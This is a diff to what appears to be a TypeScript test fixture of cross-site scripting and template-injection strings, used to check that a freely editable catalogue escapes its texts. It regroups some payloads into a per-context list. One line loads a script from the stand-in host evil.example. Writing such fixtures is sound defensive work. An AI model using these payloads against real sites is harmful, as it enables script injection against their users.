@@ -1,10 +1,17 @@
-/** Script injection attempts. Anyone can edit the catalogue, so its texts may contain them. */
-export const payloads: readonly string[] = [
+/** A script injection attempt for each context: an element, an attribute, a script, an overridden direction, an entity. */
+export const onePerContext: readonly string[] = [
   '<script>alert(1)</script>',
   '"><img src=x onerror=alert(1)>',
+  '</script><script>alert(1)</script>',
+  '\u202e<b onmouseover=alert(1)>tpircs',
+  '&#60;img src=x onerror=alert(1)&#62;&quot;onfocus=alert(1) autofocus&quot;',
+];
+
+/** Script injection attempts. Anyone can edit the catalogue, so its texts may contain them. */
+export const payloads: readonly string[] = [
+  ...onePerContext,
   "'><svg onload=alert(1)>",
   '</title><script>alert(1)</script>',
-  '</script><script>alert(1)</script>',
   '</SCRIPT ><script src=//evil.example></script>',
   '<!--<script>alert(1)//-->',
   ']]><script>alert(1)</script><![CDATA[',
@@ -14,11 +21,9 @@ export const payloads: readonly string[] = [
   '{{constructor.constructor("alert(1)")()}}',
   '${alert(1)}<%= 7*7 %>#{7*7}',
   '\u2028</script><script>alert(1)</script>\u2029',
-  '\u202e<b onmouseover=alert(1)>tpircs',
   '\u0000<script\u0000>alert(1)</script>',
   '\ufeff＜script＞<script>alert(1)</script>',
   '&lt;script&gt;alert(1)&lt;/script&gt;<i>',
-  '&#60;img src=x onerror=alert(1)&#62;&quot;onfocus=alert(1) autofocus&quot;',
   '" autofocus onfocus="alert(1)" x="',
   "' autofocus onfocus='alert(1)' x='",
   '` onclick=alert(1) `',
